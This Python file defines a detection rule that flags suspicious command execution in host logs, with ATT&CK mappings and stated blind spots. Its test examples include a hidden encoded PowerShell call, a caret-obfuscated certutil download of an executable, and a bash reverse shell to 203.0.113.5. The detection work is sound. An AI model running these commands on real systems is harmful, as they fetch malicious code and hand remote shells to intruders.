"""Code is run by ways that documents, downloads and intruders use."""

from collections.abc import Sequence

from pipeline.detectors.detector import Example
from pipeline.detectors.logs.host_rule_detector import HostRuleDetector, process_example


class SuspiciousCommand(HostRuleDetector):
    """Rules of the family `execution`: encoded and hidden PowerShell, scripts that download, shells under documents
    and servers.
    """

    id = "logs.suspicious_command"
    family = "execution"
    title = "Suspicious command"
    severity = 4
    attacks = ("T1059.001", "T1059.004", "T1204.002", "T1505.003", "T1105", "T1140")
    misses = (
        "Obfuscation beyond carets, quotes and letter case, and code that runs without a new process, a "
        "script block log or a telling command line. Needs process starts with command lines (Sysmon 1, or "
        "4688 with command lines) or PowerShell's script block log."
    )
    usual = "Commands of everyday administration."

    @classmethod
    def examples(cls) -> Sequence[Example]:
        return (
            process_example(
                "hidden and encoded",
                True,
                {"command_line": 'powershell.exe  -NoP -W Hidden -Enc "SQBFAFgA"'},
            ),
            process_example(
                "carets hide nothing",
                True,
                {"command_line": "cer^tutil -urlcache -split -f http://203.0.113.5/a.exe"},
            ),
            process_example(
                "a document starts a shell",
                True,
                {
                    "command_line": "cmd /c dir",
                    "image": "C:\\Windows\\System32\\cmd.exe",
                    "parent_image": "C:\\Program Files\\Microsoft Office\\WINWORD.EXE",
                },
            ),
            process_example(
                "a shell for another machine",
                True,
                {
                    "kind": "line",
                    "program": "sudo",
                    "message": "USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
                },
            ),
            process_example(
                "everyday commands",
                False,
                {"command_line": "powershell -File backup.ps1 -Encoding utf8"},
                {"command_line": "certutil -verify cert.cer"},
                {"command_line": "curl https://example.org -o page.html"},
            ),
        )
